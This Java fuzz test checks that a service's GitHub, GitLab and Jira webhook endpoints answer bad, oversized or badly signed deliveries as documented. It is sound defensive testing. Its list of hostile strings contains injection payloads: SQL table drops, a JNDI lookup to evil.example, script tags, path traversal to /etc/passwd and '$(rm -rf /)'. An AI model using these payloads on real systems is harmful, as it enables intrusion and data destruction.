package dev.flowlens.ingest.webhook;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.flowlens.events.EventValidator;
import dev.flowlens.ingest.connector.webhook.HmacSha256;
import dev.flowlens.testsupport.RealData;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.vertx.mutiny.sqlclient.Pool;
import io.vertx.mutiny.sqlclient.Row;
import io.vertx.mutiny.sqlclient.Tuple;
import jakarta.inject.Inject;
import java.io.BufferedReader;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.Socket;
import java.net.URI;
import java.net.URL;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.security.MessageDigest;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.UUID;
import java.util.function.Function;
import org.junit.jupiter.api.Test;

/**
 * Issue 6, bad input to the three webhook endpoints ({@code POST /webhooks/{github|gitlab|jira}/{connectorId}}),
 * which {@code api.BadInputTest} (the events API) does not reach. Every real payload of
 * {@code testdata/{github,gitlab,jira}-webhooks} is the seed of a few thousand generated deliveries
 * (seeded, so a failure repeats): malformed JSON, each field of the payload replaced by a wrong type, null, a
 * huge or hostile string, invalid UTF-8, raw control bytes, deep nesting, out-of-range times and numbers; odd
 * headers (event kind, delivery id, content type); redeliveries; and bad or missing signatures.
 *
 * <p>What docs/connectors.md "Webhooks" promises, checked for each: never a 5xx; a bad or missing
 * signature is 401 and stores nothing; a correctly signed body is 202 and kept raw (a body the mapper cannot
 * use gives no events, a redelivery is a no-op); a body over the server's limit is 413 and stores nothing.
 * And every event the accepted bodies produced is a valid canonical event, counted as the answers said.
 */
@QuarkusTest
class WebhookBadInputTest {

    static final long SEED = 20261206L;
    static final int CASES_PER_TOOL = 1000;

    @Inject
    Pool pool;

    @TestHTTPResource("/")
    URL base;

    final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(10)).build();

    /** One of the three tools: where its payloads are, how it signs and names a delivery. */
    enum Tool {
        GITHUB("github-webhooks", "X-GitHub-Delivery"),
        GITLAB("gitlab-webhooks", "Idempotency-Key"),
        JIRA("jira-webhooks", "X-Atlassian-Webhook-Identifier");

        final String folder;
        final String deliveryHeader;

        Tool(String folder, String deliveryHeader) {
            this.folder = folder;
            this.deliveryHeader = deliveryHeader;
        }

        String path() {
            return name().toLowerCase(Locale.ROOT);
        }

        /** The authentication headers a sender holding this secret sends with this body. */
        Map<String, String> auth(String secret, byte[] body) {
            return switch (this) {
                case GITHUB -> Map.of("X-Hub-Signature-256", HmacSha256.sign(secret, body));
                case GITLAB -> Map.of("X-Gitlab-Token", secret);
                case JIRA -> Map.of("X-Hub-Signature", HmacSha256.sign(secret, body));
            };
        }

        /** The header that carries the signature or token. */
        String authHeader() {
            return switch (this) {
                case GITHUB -> "X-Hub-Signature-256";
                case GITLAB -> "X-Gitlab-Token";
                case JIRA -> "X-Hub-Signature";
            };
        }
    }

    /** A real payload and the event kind header its tool sends with it (null for Jira: the kind is in the body). */
    record Seed(String file, String eventKind, JsonNode json) {
    }

    /** One generated delivery and what the server must answer. */
    record Case(Tool tool, String kind, byte[] body, Map<String, String> headers, String deliveryId, int expected,
            boolean storesRaw) {
    }

    static final String[] WRONG_VALUES = { "123", "-1.5e300", "true", "false", "null", "[]", "{}", "[\"a\"]", "{\"a\":1}",
            "\"\"", "\"text\"", "0", "[null]", "[[1,2],{}]" };
    static final String[] HOSTILE = { "'; drop table ingest.outbox; --", "\" or 1=1 --", "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../../../etc/passwd", "%00%0d%0a", "\u202e\u0007\ufeff",
            "Robert'); DROP TABLE Students;--", "😀 \u00e9\u4e2d", "$(rm -rf /)", "\\u0000", "\u0000", "a\u0000b",
            "\r\nX-Injected: 1", "caused by deployment 99999999999999999999999", "caused by deployment :::",
            "FLOW-1 FLOW-2 " + "ABC-1 ".repeat(2000) };
    static final String[] BAD_TIMES = { "", "yesterday", "2026-13-01T00:00:00Z", "2026-02-30T00:00:00Z",
            "1969-12-31T23:59:59Z", "2200-01-01T00:00:00Z", "+999999999-12-31T23:59:59Z", "-000001-01-01T00:00:00Z",
            "0000-01-01T00:00:00Z", "2026-03-02T10:15:00", "2026-03-02T10:15:00+25:00", "9999999999",
            "2026-03-02 10:15:00 UTC", "2016-01-14T11:15:35.000+0100x", "2026-03-02T10:15:00Z\u0000" };
    static final String[] BAD_NUMBERS = { "1e400", "-1e400", "9223372036854775808", "-9223372036854775809",
            "99999999999999999999999999999999", "1.5", "-1", "0", "\"12\"", "1E+2", "-0.0" };
    static final String[] NOT_OBJECTS = { "", " ", "null", "42", "\"event\"", "[]", "[{}]", "true", "{}", "[[]]" };
    static final String[] CONTENT_TYPES = { "application/json", "text/plain", "application/x-www-form-urlencoded",
            "application/xml", "multipart/form-data; boundary=x", "application/json; charset=latin1", "", "*/*" };

    // ---------------------------------------------------------------- seeds

    static List<Seed> seeds(Tool tool) {
        List<Seed> seeds = new ArrayList<>();
        RealData.jsonFiles(tool.folder).forEach(f -> {
            JsonNode json = RealData.json(f);
            String kind = switch (tool) {
                case GITHUB -> f.split("/")[2]; // github-webhooks/octokit-payload-examples/<event>/<action>.payload.json
                case GITLAB -> gitlabHeader(json.path("object_kind").asText(json.path("event_name").asText("")));
                case JIRA -> null;
            };
            seeds.add(new Seed(f, kind, json));
        });
        assertThat(seeds).as(tool + " payloads").isNotEmpty();
        return seeds;
    }

    static String gitlabHeader(String objectKind) {
        return switch (objectKind) {
            case "issue" -> "Issue Hook";
            case "merge_request" -> "Merge Request Hook";
            case "pipeline" -> "Pipeline Hook";
            case "deployment" -> "Deployment Hook";
            case "push" -> "Push Hook";
            case "tag_push" -> "Tag Push Hook";
            case "note" -> "Note Hook";
            case "build" -> "Job Hook";
            case "release" -> "Release Hook";
            default -> "System Hook";
        };
    }

    /** Where a value sits: its container and its key (object) or index (array). */
    record Slot(JsonNode parent, String key, int index, JsonNode value) {
    }

    static List<Slot> slots(JsonNode root) {
        List<Slot> out = new ArrayList<>();
        collect(root, out);
        return out;
    }

    private static void collect(JsonNode node, List<Slot> out) {
        if (node.isObject()) {
            for (Iterator<Map.Entry<String, JsonNode>> it = node.fields(); it.hasNext();) {
                Map.Entry<String, JsonNode> e = it.next();
                out.add(new Slot(node, e.getKey(), -1, e.getValue()));
                collect(e.getValue(), out);
            }
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                out.add(new Slot(node, null, i, node.get(i)));
                collect(node.get(i), out);
            }
        }
    }

    static void replace(Slot s, JsonNode value) {
        if (s.key() != null) {
            ((ObjectNode) s.parent()).set(s.key(), value);
        } else {
            ((ArrayNode) s.parent()).set(s.index(), value);
        }
    }

    static void remove(Slot s) {
        if (s.key() != null) {
            ((ObjectNode) s.parent()).remove(s.key());
        } else {
            ((ArrayNode) s.parent()).remove(s.index());
        }
    }

    static JsonNode parse(String json) {
        try {
            return RealData.JSON.readTree(json);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static byte[] bytes(JsonNode node) {
        try {
            return RealData.JSON.writeValueAsBytes(node);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static final String MARK = "@@flowlens-fuzz-mark@@";

    /** The payload with the value at a slot replaced by raw bytes (which need not be JSON). */
    static byte[] splice(JsonNode root, Slot s, byte[] raw) {
        replace(s, JsonNodeFactory.instance.textNode(MARK));
        byte[] whole = bytes(root);
        byte[] mark = ("\"" + MARK + "\"").getBytes(StandardCharsets.UTF_8);
        int at = indexOf(whole, mark);
        ByteArrayOutputStream out = new ByteArrayOutputStream(whole.length + raw.length);
        out.write(whole, 0, at);
        out.writeBytes(raw);
        out.write(whole, at + mark.length, whole.length - at - mark.length);
        return out.toByteArray();
    }

    static int indexOf(byte[] hay, byte[] needle) {
        outer:
        for (int i = 0; i <= hay.length - needle.length; i++) {
            for (int j = 0; j < needle.length; j++) {
                if (hay[i + j] != needle[j]) {
                    continue outer;
                }
            }
            return i;
        }
        throw new IllegalStateException("mark not found");
    }

    /** Letters and digits that do not compress (a long delivery id must not get through an index by compressing well). */
    static String randomText(Random r, int length) {
        StringBuilder b = new StringBuilder(length);
        for (int i = 0; i < length; i++) {
            b.append("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789".charAt(r.nextInt(62)));
        }
        return b.toString();
    }

    static String quoted(String s) {
        return JsonNodeFactory.instance.textNode(s).toString();
    }

    static boolean isTimeKey(String key) {
        return key != null && key.matches("(?i).*(_at|At|time|timestamp|created|updated|date|resolutiondate|started|finished)$");
    }

    // ---------------------------------------------------------------- generation

    /** A signed (or, for the bad-signature kinds, badly signed) delivery made from one seed. */
    static Case generate(Random r, Tool tool, List<Seed> seeds, String secret, String run, int n, List<String> accepted) {
        Seed seed = seeds.get(r.nextInt(seeds.size()));
        JsonNode root = seed.json().deepCopy();
        List<Slot> all = slots(root);
        Slot slot = all.isEmpty() ? null : all.get(r.nextInt(all.size()));
        List<Slot> strings = all.stream().filter(s -> s.value().isTextual()).toList();
        Slot string = strings.isEmpty() ? slot : strings.get(r.nextInt(strings.size()));
        Function<String, byte[]> utf8 = s -> s.getBytes(StandardCharsets.UTF_8);
        String delivery = run + "-" + tool.path() + "-" + n;
        Map<String, String> headers = new TreeMap<>(String.CASE_INSENSITIVE_ORDER);
        headers.put("Content-Type", "application/json");
        if (seed.eventKind() != null) {
            headers.put(tool == Tool.GITHUB ? "X-GitHub-Event" : "X-Gitlab-Event", seed.eventKind());
        }
        String kind;
        byte[] body;
        int pick = r.nextInt(100);
        if (pick < 5) {
            kind = "unchanged real payload";
            body = bytes(root);
        } else if (pick < 10) {
            byte[] whole = bytes(root);
            kind = "truncated JSON";
            body = java.util.Arrays.copyOf(whole, r.nextInt(whole.length));
        } else if (pick < 13) {
            kind = "random bytes";
            body = new byte[r.nextInt(2000)];
            r.nextBytes(body);
        } else if (pick < 16) {
            kind = "not a JSON object";
            body = utf8.apply(NOT_OBJECTS[r.nextInt(NOT_OBJECTS.length)]);
        } else if (pick < 30 && slot != null) {
            kind = "wrong type of a field";
            replace(slot, parse(WRONG_VALUES[r.nextInt(WRONG_VALUES.length)]));
            body = bytes(root);
        } else if (pick < 36 && slot != null) {
            kind = "null field";
            replace(slot, JsonNodeFactory.instance.nullNode());
            body = bytes(root);
        } else if (pick < 40 && slot != null) {
            kind = "missing field";
            remove(slot);
            body = bytes(root);
        } else if (pick < 44 && string != null) {
            kind = "huge string";
            int length = 5_000 + r.nextInt(r.nextInt(10) == 0 ? 3_000_000 : 100_000);
            replace(string, JsonNodeFactory.instance.textNode("x".repeat(length)));
            body = bytes(root);
        } else if (pick < 52 && string != null) {
            kind = "hostile string";
            replace(string, JsonNodeFactory.instance.textNode(HOSTILE[r.nextInt(HOSTILE.length)]));
            body = bytes(root);
        } else if (pick < 56 && string != null) {
            kind = "invalid UTF-8 in a string";
            byte[][] bad = { { (byte) 0xC3, (byte) 0x28 }, { (byte) 0xFF, (byte) 0xFE }, { (byte) 0xED, (byte) 0xA0, (byte) 0x80 },
                    { (byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80 }, { (byte) 0x80 }, { (byte) 0xC0, (byte) 0xAF } };
            byte[] b = bad[r.nextInt(bad.length)];
            byte[] raw = new byte[b.length + 2];
            raw[0] = '"';
            System.arraycopy(b, 0, raw, 1, b.length);
            raw[raw.length - 1] = '"';
            body = splice(root, string, raw);
        } else if (pick < 59 && string != null) {
            kind = "raw control bytes in a string";
            byte[] raw = r.nextBoolean() ? new byte[] { '"', 'a', 0, 'b', '"' } : new byte[] { '"', 1, 8, 0x1f, '\n', '"' };
            body = splice(root, string, raw);
        } else if (pick < 64 && slot != null) {
            int depth = 33 + r.nextInt(r.nextBoolean() ? 100 : 5000);
            kind = "deep nesting";
            boolean arrays = r.nextBoolean();
            String nested = arrays ? "[".repeat(depth) + "]".repeat(depth) : "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
            body = splice(root, slot, utf8.apply(nested));
        } else if (pick < 72) {
            List<Slot> times = all.stream().filter(s -> isTimeKey(s.key())).toList();
            Slot t = times.isEmpty() ? slot : times.get(r.nextInt(times.size()));
            kind = "out-of-range time";
            if (t == null) {
                body = bytes(root);
            } else if (r.nextBoolean() || t.value().isTextual()) {
                replace(t, JsonNodeFactory.instance.textNode(BAD_TIMES[r.nextInt(BAD_TIMES.length)]));
                body = bytes(root);
            } else {
                body = splice(root, t, utf8.apply(BAD_NUMBERS[r.nextInt(BAD_NUMBERS.length)]));
            }
        } else if (pick < 77) {
            List<Slot> numbers = all.stream().filter(s -> s.value().isNumber()).toList();
            Slot num = numbers.isEmpty() ? slot : numbers.get(r.nextInt(numbers.size()));
            kind = "out-of-range number";
            body = num == null ? bytes(root) : splice(root, num, utf8.apply(BAD_NUMBERS[r.nextInt(BAD_NUMBERS.length)]));
        } else if (pick < 80) {
            byte[] whole = bytes(root);
            String[] variants = { "\ufeff", "", "" };
            int v = r.nextInt(3);
            kind = v == 0 ? "byte order mark" : v == 1 ? "trailing garbage" : "duplicate keys";
            String text = new String(whole, StandardCharsets.UTF_8);
            body = utf8.apply(v == 0 ? variants[0] + text : v == 1 ? text + "}]garbage" : "{\"a\":1,\"a\":2," + text.substring(1));
        } else if (pick < 84) {
            kind = "odd event kind header";
            String[] kinds = { "", "issues", "pull_request", "deployment_status", "push", "Issue Hook", "Merge Request Hook",
                    "Pipeline Hook", "ping", "x".repeat(2000), "../../", "issues, pull_request" };
            String k = kinds[r.nextInt(kinds.length)];
            headers.put(tool == Tool.JIRA ? "X-GitHub-Event" : tool == Tool.GITHUB ? "X-GitHub-Event" : "X-Gitlab-Event", k);
            body = bytes(root);
        } else if (pick < 87) {
            kind = "odd content type";
            String ct = CONTENT_TYPES[r.nextInt(CONTENT_TYPES.length)];
            if (ct.isEmpty()) {
                headers.remove("Content-Type");
            } else {
                headers.put("Content-Type", ct);
            }
            body = bytes(root);
        } else if (pick < 89) {
            String[] ids = { "", "'; drop table ingest.raw_payload; --", "../../etc/passwd", "a,b", "%00" };
            body = bytes(root);
            if (r.nextInt(3) == 0) {
                // over WebhookIntake.MAX_DELIVERY_ID (1,000): 400, nothing stored; up to it: stored
                boolean tooLong = r.nextBoolean();
                kind = tooLong ? "delivery id over the limit" : "long delivery id";
                delivery = run + "-" + n + "-";
                delivery += randomText(r, tooLong ? 1000 + r.nextInt(5500) : 1000 - delivery.length() - r.nextInt(200));
                if (tooLong) {
                    headers.put(tool.deliveryHeader, delivery);
                    headers.putAll(tool.auth(secret, body));
                    return new Case(tool, kind, body, headers, delivery, 400, false);
                }
            } else {
                kind = "odd delivery id";
                delivery = ids[r.nextInt(ids.length)] + run + "-" + n;
            }
        } else if (pick < 91 && !accepted.isEmpty()) {
            kind = "redelivery";
            delivery = accepted.get(r.nextInt(accepted.size()));
            body = bytes(root);
            headers.put(tool.deliveryHeader, delivery);
            headers.putAll(tool.auth(secret, body));
            return new Case(tool, kind, body, headers, delivery, 202, false);
        } else {
            // bad or missing signature on a valid or broken body: 401, nothing stored
            body = r.nextBoolean() ? bytes(root) : java.util.Arrays.copyOf(bytes(root), 10 + r.nextInt(200));
            headers.put(tool.deliveryHeader, delivery);
            int variant = r.nextInt(8);
            kind = "bad signature";
            switch (variant) {
                case 0 -> kind = "missing signature";
                case 1 -> headers.putAll(tool.auth(secret + "x", body));
                case 2 -> headers.putAll(tool == Tool.GITLAB ? tool.auth("another-connector's-secret", body) // a token signs no body
                        : tool.auth(secret, java.util.Arrays.copyOf(body, body.length + 1)));
                case 3 -> headers.put(tool.authHeader(), "");
                // (not secret + " ": HTTP drops a header value's surrounding blanks, so that is the secret)
                case 4 -> headers.put(tool.authHeader(), tool == Tool.GITLAB ? "x" + secret : "sha1=" + "0".repeat(40));
                case 5 -> headers.put(tool.authHeader(), tool == Tool.GITLAB ? secret.substring(1)
                        : HmacSha256.sign(secret, body).substring(0, 30));
                case 6 -> headers.put(tool.authHeader(), tool == Tool.GITLAB ? secret.toUpperCase(Locale.ROOT)
                        : "sha256=zz" + HmacSha256.sign(secret, body).substring(9));
                default -> headers.putAll(Map.of(tool == Tool.GITHUB ? "X-Hub-Signature" : tool == Tool.JIRA
                        ? "X-Hub-Signature-256" : "X-Gitlab-Signature", HmacSha256.sign(secret, body))); // the other tool's header
            }
            return new Case(tool, kind, body, headers, delivery, 401, false);
        }
        if (body == null) {
            body = bytes(root);
        }
        headers.put(tool.deliveryHeader, delivery);
        headers.putAll(tool.auth(secret, body));
        return new Case(tool, kind, body, headers, delivery, 202, true);
    }

    // ---------------------------------------------------------------- sending and checking

    record Answer(int status, String body) {
    }

    Answer post(Tool tool, String connectorId, byte[] body, Map<String, String> headers) {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(base.toString().replaceAll("/$", "") + "/webhooks/"
                + tool.path() + "/" + connectorId)).timeout(Duration.ofSeconds(60))
                .POST(HttpRequest.BodyPublishers.ofByteArray(body));
        headers.forEach((k, v) -> {
            if (!v.isEmpty() || !k.equalsIgnoreCase("Content-Type")) {
                b.header(k, v);
            }
        });
        try {
            HttpResponse<String> r = http.send(b.build(), HttpResponse.BodyHandlers.ofString());
            return new Answer(r.statusCode(), r.body());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    long count(String sql, Object... args) {
        return pool.preparedQuery(sql).execute(Tuple.from(args)).await().indefinitely().iterator().next().getLong(0);
    }

    static String md5(byte[] b) {
        try {
            return HexFormat.of().formatHex(MessageDigest.getInstance("MD5").digest(b));
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    static int events(String answer) {
        java.util.regex.Matcher m = java.util.regex.Pattern.compile("\"events\"\\s*:\\s*(\\d+)").matcher(answer == null ? "" : answer);
        return m.find() ? Integer.parseInt(m.group(1)) : 0;
    }

    @Test
    void thousandsOfMutatedRealDeliveriesAreNeverA5xxAndEachGetsTheDocumentedAnswer() {
        String run = "wfuzz-" + UUID.randomUUID().toString().substring(0, 8);
        Random random = new Random(SEED);
        Map<String, Integer> statusByKind = new TreeMap<>();
        Map<Integer, Integer> statuses = new TreeMap<>();
        List<String> failures = new ArrayList<>();
        for (Tool tool : Tool.values()) {
            String secret = "fuzz-" + tool.path() + "-" + UUID.randomUUID();
            String connectorId = WebhookAndAdminTest.connector(tool.name(), secret,
                    tool == Tool.JIRA ? "https://fuzz-" + run + ".atlassian.net" : "https://" + tool.path() + ".com");
            List<Seed> seeds = seeds(tool);
            List<String> accepted = new ArrayList<>();
            Map<String, byte[]> stored = new LinkedHashMap<>();
            List<String> refused = new ArrayList<>();
            long announcedEvents = 0;
            for (int i = 0; i < CASES_PER_TOOL; i++) {
                Case c = generate(random, tool, seeds, secret, run, i, accepted);
                Answer a = post(tool, connectorId, c.body(), c.headers());
                statuses.merge(a.status(), 1, Integer::sum);
                statusByKind.merge(tool.path() + " " + c.kind() + " -> " + a.status(), 1, Integer::sum);
                String what = tool + " case " + i + " (" + c.kind() + ", " + c.body().length + " bytes)";
                if (a.status() >= 500) {
                    failures.add(what + ": HTTP " + a.status() + " " + a.body());
                } else if (a.status() != c.expected()) {
                    failures.add(what + ": HTTP " + a.status() + ", expected " + c.expected() + ": " + a.body());
                } else if (a.status() != 202 && (a.body() == null || !a.body().contains("\"detail\""))) {
                    failures.add(what + ": HTTP " + a.status() + " without an error message: " + a.body());
                }
                if (a.status() == 202 && c.storesRaw()) {
                    if (a.body().contains("\"duplicate\":true")) {
                        failures.add(what + ": a new delivery id was answered as a duplicate: " + a.body());
                    }
                    accepted.add(c.deliveryId());
                    stored.put(c.deliveryId(), c.body());
                    announcedEvents += events(a.body());
                } else if (c.expected() != 202) {
                    refused.add(c.deliveryId());
                }
            }
            // 401s stored nothing; every accepted body is kept as received (decoded as UTF-8, NUL as U+FFFD, as RawArchive does)
            long refusedStored = count("select count(*) from ingest.raw_payload where connector_id = $1 and delivery_id = any($2)",
                    connectorId, refused.toArray(String[]::new));
            if (refusedStored != 0) {
                failures.add(tool + ": " + refusedStored + " raw rows of refused deliveries");
            }
            Map<String, String> storedMd5 = new TreeMap<>();
            for (Row row : pool.preparedQuery("select delivery_id, md5(body) from ingest.raw_payload where connector_id = $1")
                    .execute(Tuple.of(connectorId)).await().indefinitely()) {
                storedMd5.put(row.getString(0), row.getString(1));
            }
            if (storedMd5.size() != stored.size()) {
                failures.add(tool + ": " + storedMd5.size() + " raw rows for " + stored.size() + " accepted deliveries");
            }
            stored.forEach((id, body) -> {
                String want = md5(new String(body, StandardCharsets.UTF_8).replace('\u0000', '\uFFFD').getBytes(StandardCharsets.UTF_8));
                if (!want.equals(storedMd5.get(id))) {
                    failures.add(tool + " delivery " + id.substring(0, Math.min(60, id.length())) + ": raw body not kept as received");
                }
            });
            // the outbox holds exactly the events the 202 answers announced, each a valid canonical event
            List<String> payloads = new ArrayList<>();
            for (Row row : pool.preparedQuery("select o.payload from ingest.outbox o join ingest.raw_payload r on r.id = o.raw_id "
                    + "where r.connector_id = $1").execute(Tuple.of(connectorId)).await().indefinitely()) {
                payloads.add(row.getString(0));
            }
            if (payloads.size() != announcedEvents) {
                failures.add(tool + ": " + payloads.size() + " outbox rows for " + announcedEvents + " events announced");
            }
            for (String p : payloads) {
                var violations = EventValidator.validate(0, parse(p));
                if (!violations.isEmpty()) {
                    failures.add(tool + ": invalid event in the outbox " + violations + ": " + p.substring(0, Math.min(300, p.length())));
                }
            }
            System.out.printf("webhook fuzz %s: %d cases, %d accepted new, %d refused (401/400), %d events in the outbox%n", tool,
                    CASES_PER_TOOL, stored.size(), refused.size(), payloads.size());
        }
        System.out.println("webhook fuzz statuses: " + statuses);
        statusByKind.forEach((k, v) -> System.out.println("  " + k + ": " + v));
        failures.stream().limit(50).forEach(f -> System.out.println("FAILED: " + f.substring(0, Math.min(400, f.length()))));
        assertThat(failures).as("cases not answered as documented").isEmpty();
    }

    @Test
    void unknownConnectorsAnd404StoreNothingWhateverTheBody() {
        long before = count("select count(*) from ingest.raw_payload");
        for (Tool tool : Tool.values()) {
            for (String id : new String[] { UUID.randomUUID().toString(), "x", "%2e%2e", "'%20or%201=1", "a".repeat(300) }) {
                byte[] body = "{\"object_kind\":\"issue\"}".getBytes(StandardCharsets.UTF_8);
                Answer a = post(tool, id, body, tool.auth("whatever", body));
                assertThat(a.status()).as(tool + " connector " + id).isBetween(400, 499);
            }
        }
        assertThat(count("select count(*) from ingest.raw_payload")).isEqualTo(before);
    }

    /**
     * A body over flowlens.connectors.webhooks.max-body-size (25M; under quarkus.http.limits.max-body-size, 32M, which
     * the events API keeps): 413 from the announced length, before reading, for every tool.
     */
    @Test
    void aBodyOverTheLimitIs413AndStoresNothing() throws Exception {
        for (Tool tool : Tool.values()) {
            String secret = "big-" + UUID.randomUUID();
            String id = WebhookAndAdminTest.connector(tool.name(), secret, "https://" + tool.path() + ".example");
            try (Socket socket = new Socket(base.getHost(), base.getPort())) {
                socket.setSoTimeout(10_000);
                socket.getOutputStream().write(("POST /webhooks/" + tool.path() + "/" + id + " HTTP/1.1\r\nHost: localhost\r\n"
                        + "Content-Type: application/json\r\n" + tool.authHeader() + ": "
                        + tool.auth(secret, new byte[0]).get(tool.authHeader()) + "\r\n"
                        + "Content-Length: " + (26 * 1024 * 1024) + "\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
                socket.getOutputStream().flush();
                String statusLine = new BufferedReader(new InputStreamReader(socket.getInputStream(), StandardCharsets.US_ASCII))
                        .readLine();
                assertThat(statusLine).as(tool.toString()).startsWith("HTTP/1.1 413");
            }
            assertThat(count("select count(*) from ingest.raw_payload where connector_id = $1", id)).isZero();
        }
    }

    /** The same with the body really sent, chunked (no length announced), correctly signed: 413 once 25M are read. */
    @Test
    void aStreamedBodyOverTheLimitIs413AndStoresNothing() throws Exception {
        String secret = "big-" + UUID.randomUUID();
        String id = WebhookAndAdminTest.connector("GITHUB", secret, "https://github.com");
        byte[] chunk = new byte[1024 * 1024];
        java.util.Arrays.fill(chunk, (byte) ' ');
        String statusLine;
        try (Socket socket = new Socket(base.getHost(), base.getPort())) {
            socket.setSoTimeout(30_000);
            OutputStream out = socket.getOutputStream();
            out.write(("POST /webhooks/github/" + id + " HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
                    + "X-GitHub-Event: issues\r\nX-GitHub-Delivery: " + UUID.randomUUID() + "\r\n"
                    + "X-Hub-Signature-256: " + HmacSha256.sign(secret, new byte[0]) + "\r\n"
                    + "Transfer-Encoding: chunked\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
            try {
                for (int i = 0; i < 40; i++) {
                    out.write((Integer.toHexString(chunk.length) + "\r\n").getBytes(StandardCharsets.US_ASCII));
                    out.write(chunk);
                    out.write("\r\n".getBytes(StandardCharsets.US_ASCII));
                }
                out.write("0\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
                out.flush();
            } catch (IOException closedEarly) {
                // the server may answer and close while the rest is still being written: its status line is still there
            }
            statusLine = new BufferedReader(new InputStreamReader(socket.getInputStream(), StandardCharsets.US_ASCII)).readLine();
        }
        assertThat(statusLine).startsWith("HTTP/1.1 413");
        assertThat(count("select count(*) from ingest.raw_payload where connector_id = $1", id)).isZero();
    }

    @Test
    void theRealPayloadsThemselvesAreAcceptedUnchanged() throws Exception {
        for (Tool tool : Tool.values()) {
            String secret = "real-" + UUID.randomUUID();
            String id = WebhookAndAdminTest.connector(tool.name(), secret, "https://" + tool.path() + ".example");
            for (Seed s : seeds(tool)) {
                byte[] body = Files.readAllBytes(RealData.file(s.file()));
                Map<String, String> h = new TreeMap<>(tool.auth(secret, body));
                h.put(tool.deliveryHeader, UUID.randomUUID().toString());
                h.put("Content-Type", "application/json");
                if (s.eventKind() != null) {
                    h.put(tool == Tool.GITHUB ? "X-GitHub-Event" : "X-Gitlab-Event", s.eventKind());
                }
                Answer a = post(tool, id, body, h);
                assertThat(a.status()).as(s.file() + ": " + a.body()).isEqualTo(202);
            }
        }
    }
}
